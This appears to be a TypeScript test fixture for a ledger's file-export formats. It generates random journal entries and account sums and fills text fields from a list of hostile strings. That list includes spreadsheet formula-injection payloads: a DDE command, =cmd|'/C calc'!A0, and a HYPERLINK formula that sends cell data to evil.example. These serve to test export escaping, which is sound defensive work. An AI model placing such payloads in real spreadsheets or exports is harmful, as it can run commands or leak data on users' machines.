/**
 * Journals for the tests of files: random entries with hostile texts, in the order of posting date and number, and what the
 * accounts add up to.
 */
import { type Chart, plain } from "../../../config/Chart.ts"
import { minorDigits } from "../../../config/Currency.ts"
import type { Format } from "../../../src/Ledger/Files/Format.ts"
import type { JournalEntry } from "../../../src/Ledger/Files/JournalEntry.ts"
import { laidOut } from "../../../src/Ledger/Files/PostingDays.ts"
import type { Random } from "../../Seeded.ts"

export const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"see")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  'a "quoted", reference',
  "two\r\nlines",
  "two\n=lines",
  "a; comment:yes, date:1/99",
  ";=1+1",
  "＝1+1",
  "007",
  "00000000000000000123456789",
  "2026-01-01",
  "1e5",
  "<&>_x0041_\u0001]]>",
  "Ñandú 5 €, 日本 𝄞",
  "half a character \uD834",
  "  spaces  ",
  "long ".repeat(8000),
  ""
]

export const accounts = [
  "bank",
  "receivable",
  "0012",
  "Assets:Bank:Main",
  "(virtual)",
  "[balanced]",
  "* cleared",
  "! pending",
  "a;b",
  "a,b",
  "two  spaces",
  "two spaces",
  "=cmd",
  "~periodic",
  "Forderungen ÄÖ",
  ":",
  "a::b",
  "; comment"
]

const currencies = [null, "EUR", "USD", "JPY", "KWD", "CLF"]

export type Row = Parameters<typeof laidOut>[0]

/** From the smallest amount of the currency to 10^15, and back below zero. */
const amountOf = (random: Random, currency: string | null): bigint => {
  const decimals = currency === null ? 4 : (minorDigits[currency] ?? 2)
  const size = BigInt(random.digits(1 + random.below(15 + decimals)))
  return (random.chance(0.3) ? -size : size) * 10n ** BigInt(4 - decimals)
}

export const decimal = (units: bigint): string => {
  const digits = String(units < 0n ? -units : units).padStart(5, "0")
  return `${units < 0n ? "-" : ""}${digits.slice(0, -4)}.${digits.slice(-4)}`
}

interface Made {
  readonly count: number
  /** By default all. */
  readonly currencies?: ReadonlyArray<string | null>
  readonly accounts?: ReadonlyArray<string>
  readonly mostUnits?: bigint
}

export const rows = (random: Random, made: Made): ReadonlyArray<Row> =>
  Array.from({ length: made.count }, (_, index): Row => {
    const currency = random.pick(made.currencies ?? currencies)
    const units = amountOf(random, currency)
    const day = `2026-0${1 + random.below(3)}-${10 + random.below(9)}`
    const isOfFirstVersion = random.chance(0.2)
    return {
      entry_id: `${random.digits(30)}ab`,
      epoch: isOfFirstVersion ? null : 2,
      sequence: index + 1,
      ipc_id: `IPC ${random.pick(hostile).slice(0, 100)}`,
      project_id: random.chance(0.2) ? null : random.digits(3),
      kind: units < 0n ? "reversal" : "payment",
      amount: decimal(made.mostUnits === undefined ? units : units % made.mostUnits || 100n),
      currency,
      payment_reference: random.pick(hostile),
      certificate_url: random.chance(0.5) ? null : `https://c/${random.pick(hostile)}`,
      debit_account: random.pick(made.accounts ?? accounts),
      credit_account: random.pick(made.accounts ?? accounts),
      effective_at: `${day}T12:00:00.000000Z`,
      posting_date: isOfFirstVersion ? null : day,
      known_at: `${day}T12:00:01.000000Z`
    }
  })

const dayOf = ({ effective_at }: Row): string => effective_at.slice(0, 10)

export const inOrder = (all: ReadonlyArray<Row>): ReadonlyArray<Row> =>
  all.toSorted((a, b) => dayOf(a).localeCompare(dayOf(b)) || a.sequence - b.sequence)

export const chart = (accounts: Readonly<Record<string, string>> = {}): Chart => ({
  ...plain,
  accounts,
  company: "1000",
  lines: [
    {
      account: "receivable",
      projects: [],
      taxCode: null,
      costCode: "110",
      counterparty: { kind: "customer", name: "=Springfield & Sons" },
      tracking: { Project: "{project}" }
    }
  ]
})

/** Per account and currency, as in `key`. */
export const sumsOf = (all: ReadonlyArray<Row>, nameOf = (account: string) => account): ReadonlyMap<string, bigint> => {
  const sums = new Map<string, bigint>()
  const add = (account: string, currency: string | null, units: bigint) => {
    const name = key(nameOf(account), currency)
    sums.set(name, (sums.get(name) ?? 0n) + units)
  }
  for (const { amount, credit_account, currency, debit_account } of all) {
    add(debit_account, currency, BigInt(amount.replace(".", "")))
    add(credit_account, currency, -BigInt(amount.replace(".", "")))
  }
  return sums
}

export const key = (account: string, currency: string | null): string => JSON.stringify([account, currency])

/** Given a few entries at a time; throws the refusal. */
export const fileOf = (format: Format, entries: ReadonlyArray<JournalEntry>) => {
  const writer = format()
  const pieces = [writer.begin()]
  for (let from = 0; from < entries.length; from += 7) {
    const added = writer.add(entries.slice(from, from + 7))
    if (added._tag === "Failure") throw new Error(added.failure)
    pieces.push(added.success)
  }
  pieces.push(writer.end())
  return { bytes: Buffer.concat(pieces), notes: writer.notes() }
}

/** Ten-thousandths of a decimal with any number of decimals up to four. */
export const unitsOf = (text: string): bigint => {
  const [, sign = "", whole = "", decimals = ""] = /^(-?)(\d+)(?:\.(\d{1,4}))?$/.exec(text) ?? []
  if (whole === "") throw new Error(`no amount: ${text}`)
  return BigInt(`${sign}${whole}${decimals.padEnd(4, "0")}`)
}
